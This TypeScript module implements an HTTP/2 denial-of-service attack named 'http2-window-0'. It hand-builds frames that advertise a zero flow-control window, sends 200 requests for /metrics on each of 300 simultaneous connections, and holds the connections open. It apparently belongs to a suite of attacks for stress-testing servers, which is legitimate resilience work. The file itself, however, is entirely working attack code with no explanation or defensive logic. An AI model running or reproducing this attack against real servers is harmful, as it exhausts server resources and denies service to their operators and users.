import { readOn, writeAll } from "../sockets.ts";
import type { HttpAttack } from "./attack.ts";
import { crowd } from "./crowd.ts";

const CLIENTS = 300;
const STREAMS = 200;

/** An HTTP/2 frame (RFC 9113, section 4.1). */
function frame(type: number, flags: number, stream: number, payload: readonly number[]): number[] {
  const { length } = payload;
  return [
    ...[length >>> 16, length >>> 8, length, type, flags],
    ...[stream >>> 24, stream >>> 16, stream >>> 8, stream],
    ...payload,
  ].map((byte) => byte & 0xff);
}

/** The preface, SETTINGS with an initial window of 0, and requests whose answers nobody takes. */
function opening(): Uint8Array {
  const preface = [...new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")];
  const path = [...new TextEncoder().encode("/metrics")];
  // HPACK: GET, http, :path and :authority as literals (RFC 7541).
  const request = [0x82, 0x86, 0x04, path.length, ...path, 0x01, 1, 0x78];
  const END_STREAM_AND_HEADERS = 0x5;
  return new Uint8Array([
    ...preface,
    ...frame(4, 0, 0, [0, 4, 0, 0, 0, 0]),
    ...frame(4, 1, 0, []),
    ...Array.from(
      { length: STREAMS },
      (_, index) => frame(1, END_STREAM_AND_HEADERS, 1 + 2 * index, request),
    ).flat(),
  ]);
}

/** Three hundred connections of HTTP/2, with two hundred requests each and a window of nothing. */
export const http2Window: HttpAttack = {
  target: "http",
  name: "http2-window-0",
  run(port) {
    const bytes = opening();
    return crowd(port, CLIENTS, async (connection) => {
      await writeAll(connection, bytes);
      await readOn(connection);
    });
  },
};
